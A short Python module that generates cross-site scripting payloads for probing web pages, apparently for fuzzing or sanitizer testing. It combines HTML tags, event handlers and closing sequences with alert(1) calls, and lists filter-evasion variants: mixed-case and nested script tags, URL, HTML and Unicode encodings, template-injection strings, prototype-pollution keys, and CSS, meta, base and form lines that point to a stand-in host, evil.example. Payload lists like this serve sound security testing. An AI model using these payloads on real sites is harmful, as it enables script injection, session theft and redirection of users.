"""Names that a careless page would run: markup, handlers, addresses, templates, odd encodings."""

from __future__ import annotations

from itertools import product

_TAGS = ["img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "marquee"]
_HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart"]
_ENDS = ["=alert(1)>", "=alert`1`>", "=&#97;lert(1)>"]
_CLOSERS = [
    "",
    "'>",
    '">',
    "-->",
    "]]>",
    "<!--",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
]
_ODD = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import'//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button autofocus>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><script>alert(1)</script>",
    "<a href=javascript:alert(1)>click</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<img src=x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "<img src=x onerror=alert(1)>",
    "__proto__",
    "constructor",
    "toString",
    "</ScRiPt ><script>alert(1)</script>",
]


def payloads(count: int) -> list[str]:
    """Return that many different ones."""
    made = [
        f"{closer}<{tag} src=x autofocus {handler}{end}"
        for closer, tag, handler, end in product(_CLOSERS, _TAGS, _HANDLERS, _ENDS)
    ]
    spread = made[:: max(1, len(made) // (count - len(_ODD)))]
    return [*_ODD, *spread][:count]
